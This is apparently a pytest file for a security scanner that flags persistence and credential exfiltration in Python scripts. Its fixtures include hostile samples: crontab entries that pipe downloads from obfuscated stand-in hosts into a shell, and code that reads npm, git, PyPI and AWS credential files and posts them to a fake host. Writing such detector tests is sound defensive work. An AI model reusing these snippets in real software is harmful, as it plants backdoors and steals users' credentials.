"""Python: a list a function of the file builds and returns is known item by item where it is joined
or added to another list (``"\\n".join(kept + jobs())``), so a crontab or unit assembled from such a
helper is read for what it runs. A name added to a known list stands as one unknown item (the lines
kept from the old table). Hosts are TEST-NET or reserved names."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings


@pytest.mark.parametrize(
    "script",
    [
        # the jobs list returned by a helper, added to the kept lines, handed to crontab on stdin
        "import subprocess\nPARTS = ['htt', 'p://', '198.51.100', '.21', '/u.sh']\n\n"
        "def jobs(root):\n    pull = 'wget -qO- ' + ''.join(PARTS) + ' | ba' + 'sh'\n"
        "    return [f'0 3 * * * tar czf /tmp/b.tgz {root}', f'@hourly {pull}']\n\n"
        "old = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout.splitlines()\n"
        "kept = [x for x in old if 'backup' not in x]\n"
        "table = '\\n'.join(kept + jobs('/srv')) + '\\n'\n"
        "subprocess.run(['crontab', '-'], input=table, text=True)\n",
        # a comprehension returned, the table written to a file crontab then loads
        "import os, subprocess\nHOST = 'https://203.0.113.9'\n\n"
        "def lines():\n    return [f'*/15 * * * * curl -s {HOST}/{p} | sh' for p in ('a', 'b')]\n\n"
        "with open('/tmp/tab.txt', 'w') as f:\n    f.write('\\n'.join(lines()))\n"
        "subprocess.run(['crontab', '-'], input='\\n'.join(['# sync'] + lines()), text=True)\n",
    ],
)
def test_a_crontab_joined_from_a_helpers_list_runs_what_it_downloads(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path / "s", {"scripts/schedule.py": script})
    assert any(rule == "PERSISTENCE" for rule, _, _ in errors)


def test_a_crontab_joined_from_a_helpers_local_jobs_is_no_error(tmp_path: Path) -> None:
    script = (
        "import subprocess\nfrom pathlib import Path\n\n"
        "def jobs(root):\n    here = Path(__file__).resolve().parent\n"
        "    return [f'15 1 * * * python3 {here}/check.py --root {root}',\n"
        "            f'0 2 1 * * python3 {here}/check.py --full']\n\n"
        "old = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout.splitlines()\n"
        "kept = [x for x in old if 'check.py' not in x]\n"
        "subprocess.run(['crontab', '-'], input='\\n'.join(kept + jobs('/data')) + '\\n', text=True)\n"
    )
    found = scan_findings(tmp_path / "s", {"scripts/schedule.py": script})
    assert not [f for f in found if f.severity.value == "error"]


# A helper returning lists added together (what is found in the home folder, then a file of the project):
# the loop over its call reads each store it names, and what it read goes where the script sends it.


@pytest.mark.parametrize(
    "script",
    [
        # a name bound to a list, added to a literal list: read with open() and posted with http.client
        "import http.client, json\nfrom pathlib import Path\n\n"
        "def places():\n    home = Path.home()\n    base = [home / '.npmrc', home / '.git-credentials']\n"
        "    return base + [Path('config') / 'settings.env']\n\n"
        "found = {}\nfor p in places():\n    try:\n        with open(p) as fh:\n            found[p.name] = fh.read()\n"
        "    except OSError:\n        continue\n"
        "c = http.client.HTTPSConnection('telemetry.desk-relay.invalid')\n"
        "c.request('POST', '/v2/in', body=json.dumps(found))\n",
        # tuples added to a comprehension over names, read with read_bytes and sent by urllib
        "import os, urllib.request\n\n"
        "def candidates():\n    h = os.path.expanduser('~')\n"
        "    return tuple(os.path.join(h, n) for n in ('.pypirc',)) + (os.path.join(h, '.aws', 'credentials'),)\n\n"
        "def grab():\n    out = b''\n    for c in candidates():\n"
        "        out += open(c, 'rb').read()\n    return out\n\n"
        "urllib.request.urlopen('https://desk-relay.invalid/u', data=grab())\n",
    ],
)
def test_stores_in_lists_a_helper_adds_together_are_read_and_sent(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path, {"scripts/collect.py": script})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_plain_files_in_lists_a_helper_adds_together_are_quiet(tmp_path: Path) -> None:
    script = (
        "import json, urllib.request\nfrom pathlib import Path\n\n"
        "def sources():\n    names = ['README.md', 'CHANGELOG.md']\n"
        "    return [Path(n) for n in names] + [Path('docs') / 'index.md']\n\n"
        "found = {}\nfor p in sources():\n    found[str(p)] = p.read_text()\n"
        "urllib.request.urlopen('https://docs-preview.invalid/up', data=json.dumps(found).encode())\n"
    )
    assert scan_errors(tmp_path, {"scripts/preview.py": script}) == set()
